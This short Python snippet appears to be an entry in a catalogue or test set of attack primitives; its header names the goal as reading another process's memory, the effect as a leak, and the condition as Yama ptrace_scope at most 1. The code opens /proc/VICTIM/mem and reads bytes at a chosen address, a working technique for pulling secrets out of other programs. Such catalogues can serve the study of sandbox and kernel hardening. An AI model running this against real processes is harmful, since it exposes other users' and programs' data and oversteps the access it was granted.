"""
goal: read another process's memory through its file
effect: leak
needs: kernel/yama/ptrace_scope<=1
"""

import os

fd = os.open(f"/proc/{VICTIM}/mem", os.O_RDONLY)
print(os.pread(fd, LENGTH, ADDRESS))
